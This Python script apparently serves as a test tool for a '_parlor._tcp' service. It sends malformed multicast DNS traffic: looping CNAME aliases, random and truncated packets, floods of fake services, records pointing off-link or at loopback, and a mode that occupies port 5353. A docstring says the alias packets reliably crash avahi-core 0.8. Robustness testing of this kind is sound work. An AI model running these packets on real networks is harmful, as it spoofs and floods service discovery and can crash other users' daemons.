#!/usr/bin/env python3
"""Sends packets of multicast DNS that no honest responder sends, from the interface with the given address.

Usage: announce.py ADDRESS aliases|rubbish|empty|crowd|elsewhere|occupy [TEXT]

TEXT is a good text record in hexadecimal digits.

aliases    CNAME records about what peers look for: what they lead to goes, they form loops, they expire
rubbish    random and cut packets
empty      a thousand names that nobody resolves
crowd      three hundred whole services, twice
occupy     nothing; but keeps the port for itself until its input ends
elsewhere  a service whose address is not on the link, and others whose text records are not ours
"""
import random
import socket
import struct
import sys
import time

GROUP = ("224.0.0.251", 5353)
TYPE = "_parlor._tcp.local"
A, CNAME, PTR, TXT, SRV = 1, 5, 12, 16, 33


def name(text):
    return b"".join(bytes([len(label)]) + label.encode() for label in text.split(".")) + b"\0"


def record(owner, kind, data, ttl=120):
    return name(owner) + struct.pack(">HHIH", kind, 1, ttl, len(data)) + data


def response(records):
    return struct.pack(">6H", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def strings(*texts):
    return b"".join(bytes([len(text)]) + text for text in texts)


def service(label, address, text, port=9):
    owner, host = f"{label}.{TYPE}", f"{label}.local"
    return response([
        record(TYPE, PTR, name(owner)),
        record(owner, SRV, struct.pack(">3H", 0, 0, port) + name(host)),
        record(owner, TXT, text),
        record(host, A, socket.inet_aton(address)),
    ])


def alias(one, other, ttl):
    return record(one, CNAME, name(other), ttl)


def aliases():
    """What ends a program in which avahi-core 0.8 reads these packets unchecked: the first kind does so reliably."""
    yield response([alias(TYPE, "z.local", 120)])
    time.sleep(0.5)
    yield response([record("z.local", PTR, name(f"evil.{TYPE}"))])
    time.sleep(1)
    yield response([record("z.local", PTR, name(f"evil.{TYPE}"), ttl=0)])
    time.sleep(1.5)
    for owner in (TYPE, f"evil.{TYPE}"):
        yield response([record(TYPE, PTR, name(f"evil.{TYPE}"))])
        yield response([alias(owner, owner, 2)])
        yield response([alias(owner, "z.local", 2), alias(owner, "a.local", 2),
                        alias("z.local", "a.local", 2), alias("a.local", "z.local", 2)])
        time.sleep(3)


def rubbish(luck):
    whole = service("rubbish", "10.0.0.1", strings(b"v=2"))
    for _ in range(2000):
        kind = luck.randrange(4)
        if kind == 0:
            yield luck.randbytes(luck.randrange(1, 300))
        elif kind == 1:
            yield whole[:luck.randrange(1, len(whole))]
        elif kind == 2:
            labels = [luck.randbytes(luck.randrange(1, 64)) for _ in range(luck.randrange(1, 5))]
            odd = b"".join(bytes([len(label)]) + label for label in labels)
            head = struct.pack(">6H", 0, 0x8400, 0, 2, 0, 0)
            yield (head + name(TYPE) + struct.pack(">HHIH", PTR, 1, 120, len(odd) + 1) + odd + b"\0"
                   + odd + b"\0" + struct.pack(">HHIHB", TXT, 1, 120, 1, 0))
        else:
            changed = bytearray(whole)
            for _ in range(luck.randrange(1, 6)):
                changed[luck.randrange(len(changed))] = luck.randrange(256)
            yield bytes(changed)


def empty():
    for block in range(0, 1000, 10):
        yield response([record(TYPE, PTR, name(f"empty{n}.{TYPE}")) for n in range(block, block + 10)])


def crowd(address, text):
    for n in list(range(300)) * 2:
        yield service(f"crowd{n}", address, text)


def elsewhere(text):
    yield service("elsewhere", "192.0.2.1", text)
    yield service("loopback", "127.0.0.1", text)
    yield service("many", "224.0.0.1", text)
    for label, other in [("double", text + text), ("none", b""), ("long", text + strings(*[b"x" * 200] * 3))]:
        yield service(label, "10.99.0.1", other)


def occupy():
    takers = [socket.socket(family, socket.SOCK_DGRAM) for family in (socket.AF_INET6, socket.AF_INET)]
    takers[0].setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    for taker in takers:
        taker.bind(("", 5353))
    print("occupied", flush=True)
    sys.stdin.read()


def main():
    if sys.argv[2] == "occupy":
        return occupy()
    address, what, text = sys.argv[1], sys.argv[2], bytes.fromhex(sys.argv[3]) if len(sys.argv) > 3 else b""
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        sender.setsockopt(socket.SOL_SOCKET, option, 1)
    sender.bind(("", 5353))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    packets = {
        "aliases": aliases, "rubbish": lambda: rubbish(random.Random(1)), "empty": empty,
        "crowd": lambda: crowd(address, text), "elsewhere": lambda: elsewhere(text),
    }[what]
    count = 0
    for packet in packets():
        sender.sendto(packet, GROUP)
        count += 1
        # Not quicker than is looked at.
        if count % 5 == 0:
            time.sleep(0.01)
    print(count)


main()
